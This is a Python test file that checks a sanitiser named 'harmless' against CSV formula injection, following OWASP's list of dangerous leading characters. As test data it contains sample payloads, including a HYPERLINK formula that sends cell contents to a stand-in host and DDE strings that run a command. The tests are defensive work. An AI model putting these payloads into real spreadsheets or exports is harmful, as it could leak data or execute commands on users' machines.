"""What a log's sender wrote is text in a spreadsheet, and what is a number stays one."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.cells import harmless

# "CSV Injection" of OWASP (owasp.org/www-community/attacks/CSV_Injection) lists these beginnings, and
# the full-width forms that some spreadsheets read as the same.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@given(st.sampled_from(BEGINNINGS), st.text(min_size=1).filter(lambda text: not text[0].isdigit()))
def test_no_text_begins_a_formula(sign: str, rest: str) -> None:
    made = harmless(sign + rest)

    assert made == f"'{sign}{rest}"


@given(st.text())
def test_nothing_but_the_sign_is_put_before_it(text: str) -> None:
    made = harmless(text)

    assert made in (text, f"'{text}")
    assert made == text or text.startswith(BEGINNINGS)


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_stays_one(number: float) -> None:
    assert harmless(str(number)) == str(number)
    assert float(harmless(f"{number:+}")) == number


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example?"&A1,"more")',
        "=cmd|' /C calc'!A0",
        "-1+1|cmd",
        "+1-1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
    ],
)
def test_the_known_ones_are_text(text: str) -> None:
    line = io.StringIO()
    csv.writer(line).writerow([harmless(text)])

    (cells,) = csv.reader(io.StringIO(line.getvalue()))
    assert cells == [f"'{text}"]
